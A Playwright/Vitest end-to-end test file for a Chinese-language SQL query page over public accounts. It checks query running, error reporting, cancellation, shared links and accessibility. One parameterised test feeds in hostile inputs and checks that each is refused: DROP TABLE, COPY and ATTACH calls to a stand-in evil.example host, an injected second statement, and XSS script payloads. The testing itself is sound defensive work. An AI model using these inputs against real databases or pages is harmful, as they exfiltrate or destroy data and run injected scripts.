import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import { violations } from "../support/axe.ts";
import { openSite, visit, type Site } from "../support/site.ts";

/* 提问: any question, in SQL, over the accounts and nothing else. */

let site: Site;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.close());

const asked = (sql: string, set = "") => `sql/?${new URLSearchParams({ q: sql, ...(set && { set }) })}`;
const run = (page: Page) => page.getByRole("button", { name: /^运行/ }).click();
const rows = (page: Page) => page.locator(".results tbody tr[data-index]");

async function open(path: string, options = {}) {
  const opened = await visit(site, path, options);
  await opened.page.waitForSelector(":root[data-alive]");
  await opened.page.locator(".cm-content").waitFor();
  return opened;
}

describe("a query", () => {
  it("is written, run by keyboard, answered with all digits, and leads to the printed line", async () => {
    const { page, errors, foreign } = await open("sql/");
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+a");
    // As typed: the editor may close brackets and quotes by itself.
    await page.keyboard.insertText(
      "SELECT value, figure_id, 9007199254740993::BIGINT AS big FROM figures WHERE printed = '2660.36' ORDER BY line_start",
    );
    await page.keyboard.press("Control+Enter");
    await rows(page).first().waitFor({ state: "attached", timeout: 60_000 });
    await page.getByRole("button", { name: "表", exact: true }).click();
    const text = await rows(page).first().innerText();
    expect(text).toContain("26603600.0000");
    expect(text).toContain("9007199254740993");
    await rows(page).first().getByRole("link").click();
    const panel = page.getByRole("dialog").or(page.locator("aside"));
    await panel.getByText("2660.36").first().waitFor();
    expect([errors, foreign]).toEqual([[], []]);
    await page.context().close();
  });

  it("may be several statements; the first that is wrong is named with its line, those before are answered", async () => {
    const { page, errors } = await open(
      asked("SELECT 1 AS one;\nSELECT 'a' AS letter;\nSELECT nothing\nFROM figures"),
    );
    await run(page);
    await page.getByText("第 3 行").waitFor({ timeout: 60_000 });
    expect(await page.locator(".results .fault").innerText()).toContain("nothing");
    expect(await page.locator(".results > .caption").count()).toBe(2);
    expect(await page.locator(".cm-fault").innerText()).toBe("SELECT nothing");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("that takes too long is stopped by a press, and the page answers others", async () => {
    const { page } = await open(
      asked("SELECT count(*) FROM range(100000000) a, range(100000) b WHERE a.range * b.range % 7 = 3"),
    );
    await run(page);
    await page.getByText("正在查询").waitFor({ timeout: 60_000 });
    await page.getByRole("button", { name: "停止" }).click();
    await page.getByText("已停止。").waitFor({ timeout: 60_000 });
    await page.getByRole("button", { name: "有哪些文件，各认出多少个数？" }).click();
    await run(page);
    await expect.poll(() => rows(page).count()).toBe(5);
    await page.context().close();
  });

  it("is cut at the rows that are shown, and says so", async () => {
    const { page } = await open(asked("SELECT 'row ' || range AS r FROM range(20000)"));
    await run(page);
    await page.getByText("只取前 10,000 行").waitFor({ timeout: 60_000 });
    await page.context().close();
  });
});

describe("a link", () => {
  it("carries the query, and runs nothing until somebody presses", async () => {
    const { page } = await open(asked("SELECT 'shared' AS word", "0123456789ab"));
    await page.getByText("这条查询来自链接，还没有运行").waitFor();
    await page.getByText("0123456789ab").waitFor();
    await page.waitForTimeout(500);
    expect(await rows(page).count()).toBe(0);
    await run(page);
    await page.locator(".results").getByText("shared").waitFor({ timeout: 60_000 });
    expect(new URL(page.url()).searchParams.get("set")).not.toBe("0123456789ab");
    await page.context().close();
  });

  it("leads from any picture to the query that gives its rows", async () => {
    const { page, errors, foreign } = await visit(site, "execution/?years=2020");
    const block = page.locator("#departments");
    await block.getByRole("button", { name: /^导出/ }).click();
    await block.getByRole("menuitem", { name: "复现与嵌入" }).click();
    await page.getByRole("link", { name: "在“提问”中打开" }).click();
    await page.waitForURL("**/sql/?*");
    await page.locator(".cm-content").waitFor();
    await page.getByText("这条查询来自链接，还没有运行").waitFor();
    await run(page);
    await page.locator(".results .chart svg").first().waitFor({ timeout: 60_000 });
    expect(await page.locator(".results .fault").count()).toBe(0);
    // 004 line 414
    await expect.poll(() => page.locator(".results").first().textContent()).toContain("55311000");
    expect([errors, foreign]).toEqual([[], []]);
    await page.context().close();
  });

  it.each([
    "DROP TABLE figures",
    "COPY figures TO 'https://evil.example/'",
    "ATTACH 'https://evil.example/x.db'",
    "INSTALL httpfs",
    "SET enable_external_access = true",
    "SELECT * FROM read_csv('https://evil.example/x.csv')",
    "FROM 'https://evil.example/x.parquet'",
    "SELECT 1) AS x; DROP TABLE figures; SELECT (1",
    "SELECT '<img src=x onerror=alert(1)>' AS \"<script>alert(1)</script>\"; DELETE FROM figures",
  ])("cannot do harm: %s", async (sql) => {
    const { page, errors, foreign } = await open(asked(sql));
    page.on("dialog", () => errors.push("a script ran"));
    await run(page);
    await page.locator(".results .fault").waitFor({ timeout: 60_000 });
    expect([errors, foreign]).toEqual([[], []]);
    await page.context().close();
  });
});

describe("the page", () => {
  it("says without script how to ask, and puts questions and names into the editor by a press", async () => {
    const still = await visit(site, "sql/", { javaScriptEnabled: false });
    expect(await still.page.getByText("npm run --silent sql").isVisible()).toBe(true);
    await still.page.context().close();
    const { page } = await open("sql/");
    await page.getByRole("button", { name: "谁的执行率超出 80% 到 120%？" }).click();
    expect(await page.locator(".cm-content").innerText()).toContain("NOT BETWEEN 0.8 AND 1.2");
    await page.getByText("表和列").click();
    await page.getByRole("button", { name: "three_public_expenses", exact: true }).click();
    expect(await page.locator(".cm-content").innerText()).toContain("three_public_expenses");
    await page.context().close();
  });

  it.each([
    ["zh", 1440, "light"],
    ["en", 1440, "dark"],
    ["zh", 390, "dark"],
    ["en", 390, "light"],
  ] as const)(
    "in %s at %i px, %s, is accessible and not wider than the window",
    async (lang, width, colorScheme) => {
      const { page, errors } = await open(`sql/?lang=${lang}`, {
        viewport: { width, height: 900 },
        colorScheme,
      });
      await page.getByRole("button", { name: lang === "zh" ? /^运行/ : /^Run/ }).click();
      await page.locator(".results .chart svg").first().waitFor({ timeout: 60_000 });
      expect(await violations(page)).toEqual([]);
      expect(
        await page.evaluate(() => document.documentElement.scrollWidth - innerWidth),
      ).toBeLessThanOrEqual(0);
      expect(errors).toEqual([]);
      await page.context().close();
    },
  );
});
